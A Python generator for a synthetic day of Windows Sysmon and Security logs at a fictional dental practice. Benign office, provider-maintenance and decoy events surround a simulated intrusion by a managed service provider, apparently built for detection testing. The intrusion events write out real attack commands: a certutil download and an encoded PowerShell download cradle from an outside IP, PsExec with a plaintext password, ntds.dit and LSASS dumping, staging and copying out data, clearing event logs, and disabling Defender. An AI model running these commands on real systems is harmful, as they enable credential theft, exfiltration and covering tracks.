#!/usr/bin/env python3
"""Generates examples/msp-intrusion.jsonl: one day (2026-11-03) at "Contoso Dental",
an MSP customer managed by "Northwind IT", with an intrusion that follows the
TA18-276B story (stolen MSP admin credentials, living off the land, staging and
exfiltration back through the provider's network).

Deterministic: the same output on every run. Regenerate with
    python3 tools/gen_msp_example.py > examples/msp-intrusion.jsonl
"""

import base64
import json
import random

rng = random.Random(276)
DAY = "2026-11-03"
WS = [f"CD-WS{n:03d}" for n in (11, 12, 14, 17, 22, 23, 31)]
USERS = ["jsmith", "mlopez", "akhan", "dchen", "rpatel", "kmuller", "front-desk"]
DOMAIN = "CONTOSO"
FQDN = "contoso.local"

events = []


def ts(seconds):
    h, rem = divmod(seconds, 3600)
    m, s = divmod(rem, 60)
    return h, m, s


def sysmon(t, host, user, image, cmd, parent, parent_cmd, integrity="Medium", original=None):
    h, m, s = ts(t)
    ms = rng.randrange(1000)
    ev = {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": f"{host}.{FQDN}",
        "UtcTime": f"{DAY} {h:02d}:{m:02d}:{s:02d}.{ms:03d}",
        "ProcessGuid": "{%08X-%04X-%04X-0000-00000000%04X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16)),
        "ProcessId": rng.randrange(1000, 20000),
        "Image": image,
        "OriginalFileName": original or image.rsplit("\\", 1)[-1],
        "CommandLine": cmd,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": user,
        "IntegrityLevel": integrity,
        "ParentImage": parent,
        "ParentCommandLine": parent_cmd,
    }
    events.append((t, ev))


def sec4688(t, host, user, image, cmd, parent):
    dom, name = user.split("\\", 1)
    security(t, host, 4688, {
        "SubjectUserName": name,
        "SubjectDomainName": dom,
        "NewProcessName": image,
        "CommandLine": cmd,
        "ParentProcessName": parent,
        "TokenElevationType": "%%1936",
    })


def security(t, host, event_id, fields):
    h, m, s = ts(t)
    ev = {
        "EventID": event_id,
        "Channel": "Security",
        "Computer": f"{host}.{FQDN}",
        "TimeCreated": f"{DAY}T{h:02d}:{m:02d}:{s:02d}.{rng.randrange(1000000):06d}Z",
    }
    ev.update(fields)
    events.append((t, ev))


def logon(t, host, user, logon_type, ip, workstation, package="Kerberos", key_length=0, process="-"):
    security(t, host, 4624, {
        "TargetUserName": user.split("\\")[-1],
        "TargetDomainName": user.split("\\")[0],
        "LogonType": logon_type,
        "IpAddress": ip,
        "WorkstationName": workstation,
        "AuthenticationPackageName": package,
        "LogonProcessName": "NtLmSsp" if package == "NTLM" else "Kerberos",
        "KeyLength": key_length,
        "ProcessName": process,
    })


def explicit(t, host, subject, target, server, process, ip="-"):
    security(t, host, 4648, {
        "SubjectUserName": subject.split("\\")[-1],
        "SubjectDomainName": subject.split("\\")[0],
        "TargetUserName": target.split("\\")[-1],
        "TargetDomainName": target.split("\\")[0],
        "TargetServerName": server,
        "ProcessName": process,
        "IpAddress": ip,
    })


SYS32 = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYS32 + "cmd.exe"
RMM = "C:\\Program Files\\Northwind RMM\\rmmagent.exe"

# ---- the benign day ---------------------------------------------------------
office = [
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\Treatment plan.docx"'),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\{u}\\Documents\\Billing Q4.xlsx"'),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US /prefetch:1'),
    ("C:\\Program Files\\Microsoft\\Teams\\current\\Teams.exe", '"C:\\Program Files\\Microsoft\\Teams\\current\\Teams.exe" --process-start-args "--system-initiated"'),
    ("C:\\Program Files\\Dentrix\\Dentrix.exe", '"C:\\Program Files\\Dentrix\\Dentrix.exe" /office:main'),
    (SYS32 + "notepad.exe", 'notepad.exe "C:\\Users\\{u}\\Desktop\\phone numbers.txt"'),
]
for i in range(150):
    t = 7 * 3600 + 1800 + rng.randrange(11 * 3600)
    n = rng.randrange(len(WS))
    host, user = WS[n], USERS[n]
    image, cmd = rng.choice(office)
    sysmon(t, host, f"{DOMAIN}\\{user}", image, cmd.format(u=user), EXPLORER, "C:\\Windows\\Explorer.EXE")

# Morning logons (interactive, Kerberos) and file-server access.
for n, host in enumerate(WS):
    t = 7 * 3600 + 1800 + n * 240
    logon(t, host, f"{DOMAIN}\\{USERS[n]}", 2, "127.0.0.1", host)
    logon(t + 40, "CD-FS01", f"{DOMAIN}\\{USERS[n]}", 3, f"10.20.1.{20 + n}", host, "Kerberos", 0)
    sysmon(t + 5, host, f"{DOMAIN}\\{USERS[n]}", EXPLORER, "C:\\Windows\\Explorer.EXE", SYS32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe")
    sysmon(t + 9, host, f"{DOMAIN}\\{USERS[n]}", SYS32 + "net.exe", "net use S: \\\\CD-FS01\\Shared /persistent:yes", EXPLORER, "C:\\Windows\\Explorer.EXE")
    sec4688(t + 12, host, f"{DOMAIN}\\{USERS[n]}", SYS32 + "gpupdate.exe", "gpupdate /target:user", EXPLORER)

# The provider's RMM agent: routine health checks on every machine.
rmm_jobs = [
    (PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command Get-Service -Name Spooler,WinDefend | Select-Object Name,Status"),
    (SYS32 + "ipconfig.exe", "ipconfig /all"),
    (SYS32 + "systeminfo.exe", "systeminfo /fo csv"),
    (SYS32 + "sc.exe", "sc query wuauserv"),
    (SYS32 + "schtasks.exe", "schtasks /query /fo LIST /v"),
    (SYS32 + "wbem\\WMIC.exe", "wmic os get caption,version,lastbootuptime /format:list"),
    (SYS32 + "reg.exe", 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v CurrentBuildNumber'),
    (SYS32 + "certutil.exe", "certutil -hashfile C:\\ProgramData\\Northwind\\agent-update.msi SHA256"),
    (SYS32 + "robocopy.exe", "robocopy C:\\ProgramData\\Northwind\\logs D:\\Backup\\rmm-logs /E /R:1 /W:1"),
    (SYS32 + "net.exe", "net user front-desk /domain"),
    (SYS32 + "whoami.exe", "whoami"),
    (SYS32 + "wevtutil.exe", "wevtutil qe System /c:20 /rd:true /f:text"),
    (SYS32 + "vssadmin.exe", "vssadmin list shadows"),
]
for host in WS + ["CD-FS01", "CD-DC01"]:
    for k in range(6):
        t = 8 * 3600 + rng.randrange(9 * 3600)
        image, cmd = rng.choice(rmm_jobs)
        if rng.random() < 0.2:
            sec4688(t, host, "NT AUTHORITY\\SYSTEM", image, cmd, RMM)
        else:
            sysmon(t, host, "NT AUTHORITY\\SYSTEM", image, cmd, RMM, '"C:\\Program Files\\Northwind RMM\\rmmagent.exe" --service', "System")

# Helpdesk work by the MSP engineer, from the provider's jump host, legitimately.
for k, host in enumerate(["CD-WS014", "CD-WS022", "CD-FS01"]):
    t = 9 * 3600 + k * 1300
    logon(t, host, f"{DOMAIN}\\nw-helpdesk", 10, "10.50.0.15", "NW-JUMP01")
    sysmon(t + 30, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /computer:' + host, EXPLORER, "C:\\Windows\\Explorer.EXE", "High")
    sysmon(t + 90, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "net.exe", "net localgroup \"Remote Desktop Users\"", CMD, "cmd.exe", "High")
    sysmon(t + 120, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "schtasks.exe", "schtasks /run /tn \"Northwind\\DiskCleanup\"", CMD, "cmd.exe", "High")
    sysmon(t + 150, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "sc.exe", "sc \\\\CD-WS017 query Spooler", CMD, "cmd.exe", "High")

# The RMM agent updates itself (a URL in a property, not a remote package) and
# tunes auditing of one noisy subcategory on the DC.
for k, host in enumerate(["CD-WS011", "CD-WS023", "CD-FS01"]):
    sysmon(11 * 3600 + 600 + k * 420, host, "NT AUTHORITY\\SYSTEM", SYS32 + "msiexec.exe",
           'msiexec.exe /i "C:\\ProgramData\\Northwind\\agent-update.msi" /qn SERVERURL=https://rmm.northwind-it.example/ /norestart',
           RMM, '"C:\\Program Files\\Northwind RMM\\rmmagent.exe" --service', "System")
sec4688(11 * 3600 + 2400, "CD-DC01", "NT AUTHORITY\\SYSTEM", SYS32 + "auditpol.exe",
        'auditpol /set /subcategory:"Filtering Platform Connection" /success:disable /failure:disable', RMM)

# Logons that look a little like the intrusion but are not: the copier's
# scan-to-folder (NTLMv2, with a session key), anonymous NTLM from the same
# copier, and the backup job's scheduled task using its stored credentials.
for k in range(4):
    t = 8 * 3600 + 900 + k * 5400
    logon(t, "CD-FS01", f"{DOMAIN}\\scanner", 3, "10.20.1.200", "CD-MFP01", "NTLM", 128)
    logon(t + 2, "CD-FS01", "NT AUTHORITY\\ANONYMOUS LOGON", 3, "10.20.1.200", "CD-MFP01", "NTLM", 0)
explicit(18 * 3600 + 1800, "CD-FS01", f"{DOMAIN}\\CD-FS01$", f"{DOMAIN}\\svc-backup", "localhost", SYS32 + "svchost.exe", "::1")
explicit(18 * 3600 + 1805, "CD-FS01", f"{DOMAIN}\\CD-FS01$", f"{DOMAIN}\\svc-backup", "CD-DC01", SYS32 + "taskhostw.exe")

# System noise: services, updates, Defender.
for k in range(40):
    t = 7 * 3600 + rng.randrange(12 * 3600)
    host = rng.choice(WS + ["CD-FS01", "CD-DC01"])
    image, cmd = rng.choice([
        (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
        (SYS32 + "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC"),
        ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MpCmdRun.exe", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MpCmdRun.exe" -wdenable'),
        (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
        (SYS32 + "wuauclt.exe", '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer'),
        (SYS32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
    ])
    sysmon(t, host, "NT AUTHORITY\\SYSTEM", image, cmd, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe", "System")

# ---- the intrusion (TA18-276B) ---------------------------------------------
# Stolen CONTOSO\nw-admin credentials used from the provider's network (10.50/16).
A = f"{DOMAIN}\\nw-admin"
t0 = 13 * 3600 + 7 * 60
logon(t0, "CD-FS01", A, 3, "10.50.7.33", "NW-JUMP01", "NTLM", 0)
logon(t0 + 20, "CD-FS01", A, 10, "10.50.7.33", "NW-JUMP01")
steps = [
    (60, "CD-FS01", SYS32 + "whoami.exe", "whoami /all", CMD),
    (68, "CD-FS01", SYS32 + "quser.exe", "quser /server:CD-DC01", CMD),
    (75, "CD-FS01", SYS32 + "net.exe", 'net group "domain admins" /domain', CMD),
    (90, "CD-FS01", SYS32 + "nltest.exe", "nltest /dclist:contoso.local", CMD),
    (110, "CD-FS01", SYS32 + "net.exe", "net view /all /domain", CMD),
    (240, "CD-FS01", SYS32 + "certutil.exe", "c^e^r^t^u^t^i^l -urlcache -split -f http://198.51.100.23/upd/wuhelper.dat C:\\ProgramData\\wuhelper.exe", CMD),
    (300, "CD-FS01", PS, "powershell.exe -nop -w hidden -enc " + base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')".encode("utf-16-le")).decode(), CMD),
    (420, "CD-FS01", "C:\\ProgramData\\ps.exe", "C:\\ProgramData\\ps.exe \\\\CD-DC01 -accepteula -u CONTOSO\\nw-admin -p Winter2026! cmd.exe", CMD),
]
for dt, host, image, cmd, parent in steps:
    original = "psexec.c" if image.endswith("ps.exe") else None
    sysmon(t0 + dt, host, A, image, cmd, parent, "cmd.exe", "High", original)
explicit(t0 + 421, "CD-FS01", A, A, "CD-DC01", "C:\\ProgramData\\ps.exe")

# On the domain controller, through PsExec.
dc = [
    (480, SYS32 + "vssadmin.exe", "vssadmin create shadow /for=C:"),
    (510, CMD, "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\nt.dit"),
    (540, SYS32 + "reg.exe", "reg save hklm\\system C:\\Windows\\Temp\\sys.hiv /y"),
    (600, SYS32 + "ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q'),
    (660, SYS32 + "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\lsass.dmp full"),
]
for dt, image, cmd in dc:
    sysmon(t0 + dt, "CD-DC01", A, image, cmd, SYS32 + "PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "High")

# Staging and exfiltration through the provider's jump host.
sysmon(t0 + 900, "CD-FS01", A, "C:\\ProgramData\\rar.exe", "C:\\ProgramData\\rar.exe a -hpN0rthw1nd! -m5 C:\\ProgramData\\upd.rar C:\\Windows\\Temp\\ifm \\\\CD-DC01\\c$\\Windows\\Temp\\sys.hiv", CMD, "cmd.exe", "High", "rar.exe")
sysmon(t0 + 930, "CD-FS01", A, SYS32 + "net.exe", "net use \\\\NW-JUMP01\\c$ /user:CONTOSO\\nw-admin Winter2026!", CMD, "cmd.exe", "High")
explicit(t0 + 931, "CD-FS01", A, A, "NW-JUMP01", SYS32 + "net.exe", "10.50.7.33")
sysmon(t0 + 960, "CD-FS01", A, SYS32 + "Robocopy.exe", "robocopy C:\\ProgramData \\\\NW-JUMP01\\c$\\PerfLogs\\upd upd.rar /R:0", CMD, "cmd.exe", "High")
sec4688(t0 + 1100, "CD-DC01", A, SYS32 + "wevtutil.exe", "wevtutil cl Security", SYS32 + "PSEXESVC.exe")
sysmon(t0 + 1130, "CD-FS01", A, SYS32 + "wevtutil.exe", '"wev"tutil.exe  cl  "Windows PowerShell"', CMD, "cmd.exe", "High")
sysmon(t0 + 1160, "CD-FS01", A, PS, "powershell -ep bypass -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"", CMD, "cmd.exe", "High")

events.sort(key=lambda e: e[0])
for _, ev in events:
    print(json.dumps(ev, ensure_ascii=False))
